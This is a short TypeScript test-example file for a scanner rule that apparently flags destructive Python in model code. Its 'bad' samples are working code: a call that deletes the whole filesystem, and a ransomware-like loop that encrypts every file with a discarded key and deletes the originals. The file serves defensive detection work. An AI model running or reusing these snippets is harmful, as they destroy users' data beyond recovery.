import type { Example, RuleExamples } from '../../../model/rule.ts'

function py(text: string, path = 'modeling_x.py'): Example {
  return { path, bytes: Buffer.from(text) }
}

export const examples: RuleExamples = {
  bad: [
    py('import shutil\nshutil.rmtree("/")'),
    py(
      'import os\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor r, d, fs in os.walk("."):\n    for n in fs:\n        open(n + ".x", "wb").write(f.encrypt(open(n, "rb").read()))\n        os.remove(n)',
    ),
  ],
  good: [py('import shutil\ndef clean(d):\n    shutil.rmtree(d)'), py('import os\nos.remove("cache.json")')],
}
